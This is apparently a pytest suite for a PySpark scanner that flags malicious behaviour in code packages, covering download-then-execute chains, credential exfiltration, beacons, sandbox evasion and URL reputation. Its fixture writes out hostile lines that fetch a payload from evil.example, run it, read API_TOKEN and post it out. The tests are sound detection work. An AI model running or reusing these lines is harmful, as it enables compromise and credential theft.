import random

import pytest
from pyspark.sql import functions as F

from vetlake.operators import behavior as B
from vetlake.operators import intel as I

MALICIOUS = "\n".join([
    "curl https://evil.example/payload.sh -o payload.sh", "chmod +x payload.sh", 'exec.Command("bash", "payload.sh")', 'token := os.Getenv("API_TOKEN")',
    "requests.post(url, data=token)", "tar -czf out.tgz /home", "ssh user@host", "fetch('/api/checkin')",
])


def test_malicious_script(make_files):
    f = make_files([("s", "malicious.sh", MALICIOUS)])
    segs = B.segments(B.behavior_points(f))
    alerts = {r["alert"] for r in B.sequence_alerts(segs).collect()}
    assert {"download then execute", "credential then outbound"} <= alerts
    assert B.behavior_points(f).where("category = 'c2_beacon'").count() == 1
    risk = B.behavior_risk(B.behavior_counts(segs)).first()
    assert risk["veto"]


def test_long_line_and_ignored_places(make_files):
    f = make_files([("s", "client.js", "a" * 70000 + ";fetch(x)"), ("d", "docs/guide.md", "fetch(x)"), ("d", "client.py", "# requests.get(x) token open(")])
    got = {(r["skill_id"], r["category"]) for r in B.behavior_points(f).collect()}
    assert got == {("s", "download"), ("s", "outbound")} or got == {("s", "outbound")} | ({("s", "download")} & got)
    ev = B.behavior_points(f).where("category = 'outbound'").first()["evidence"]
    assert ev == "a" * 70000 + ";fetch(x)"


def test_long_targets_stay_apart(make_files):
    urls = ["https://host.example/" + "p" * 300 + tail for tail in ("one", "two")]
    facts = B.behavior_facts(make_files([("s", "run.py", "\n".join(f"get {u}" for u in urls))]))
    assert {r["evidence"] for r in facts.where("category = 'network_targets'").collect()} == set(urls)


def points(spark, rows):
    return spark.createDataFrame(rows, "skill_id string, path string, line_no long, category string")


def test_reversed_then_ordered(spark):
    p = points(spark, [("s", "f", 10, "execute"), ("s", "f", 11, "download"), ("s", "f", 30, "outbound"), ("s", "f", 31, "credential"), ("s", "f", 60, "download"), ("s", "f", 61, "execute")])
    got = {r["alert"]: r["n_segments"] for r in B.sequence_alerts(B.segments(p)).collect()}
    assert got == {"download then execute": 1}


def brute(rows, gap):
    by = {}
    for s, p, n, c in rows:
        by.setdefault((s, p), []).append((n, c))
    out = []
    for key, pts in by.items():
        pts.sort()
        cur = [pts[0]]
        for x in pts[1:]:
            if x[0] - cur[-1][0] > gap:
                out.append((*key, cur[0][0], cur[-1][0], len(cur)))
                cur = []
            cur.append(x)
        out.append((*key, cur[0][0], cur[-1][0], len(cur)))
    return sorted(out)


@pytest.mark.parametrize("bucket", [None, 13, 16, 40])
def test_segments_partition_points_with_hot_key(spark, bucket):
    """One key holds most points; small buckets force many stitched borders."""
    rnd = random.Random(7)
    rows = [("s", "hot", rnd.randint(1, 3000), rnd.choice("abc")) for _ in range(900)] + [("s", f"p{i}", rnd.randint(1, 300), "a") for i in range(60)]
    got = sorted((r["skill_id"], r["path"], r["range_start"], r["range_end"], r["total"]) for r in B.segments(points(spark, rows), 12, bucket=bucket).collect())
    assert got == brute(rows, 12)


def test_chain_and_timeline_text(spark):
    p = points(spark, [("s", "f", 3, "execute"), ("s", "f", 1, "download"), ("s", "f", 2, "download")])
    seg = B.segments(p)
    assert B.chains(seg).first()["chain"].startswith("f:1-3 | download=2, drop=0, execute=1")
    assert B.timelines(seg).first()["timeline"] == "f:1-3 | download(L1,x2) -> execute(L3,x1)"


def test_evasion(make_files):
    f = make_files([("s", "a.py", "time.sleep(300)\nsleep(299)\nif docker: exec(x)"), ("t", "a.py", "sleep(5)")])
    sig = sorted((r["skill_id"], r["signal"]) for r in B.evasion_signals(f).collect())
    assert sig == [("s", "delay 300 hit 300"), ("s", "environment guarded execution"), ("s", "fingerprint docker")]


@pytest.mark.parametrize("target,rep", [
    ("https://clob.polymarket.com/x", "policy"), ("https://pastebin.com/raw/1", "suspicious"), ("http://localhost:8080", "internal"), ("https://raw.githubusercontent.com/a/b/x.sh", "suspicious"),
    ("https://github.com/a/b/releases/download/v1/x.tar.gz", "suspicious"), ("https://github.com/a/b", "trusted"), ("https://github.com/a/b/tree/main", "trusted"), ("https://github.com/a/b/issues/1", "unknown"),
    ("http://plain.example/x", "benign"), ("https://tls.example/x", "unknown"), ("203.0.113.9", "unknown"),
])
def test_local_reputation(spark, target, rep):
    assert I.local_reputation(spark.createDataFrame([(target,)], "target string")).first()["reputation"] == rep


def test_merge_and_adjust(spark):
    t = spark.createDataFrame([("a",), ("b",)], "target string")
    feed = spark.createDataFrame([("a",)], "indicator string")
    m = I.merge_reputations([I.feed_reputation(t, feed, "feed1"), I.local_reputation(t)])
    got = {r["target"]: (r["reputation"], r["confidence"]) for r in m.collect()}
    assert got == {"a": ("suspicious", 0.9), "b": ("unknown", 0.6)}
    pairs = spark.createDataFrame([("s", "a"), ("s", "b"), ("s", "c"), ("s", "a")], "skill_id string, target string")
    r = I.ti_adjustment(pairs, m).first()
    assert r["n_targets"] == 3 and abs(r["adjustment"] + 9.2) < 1e-9 and r["malicious"]
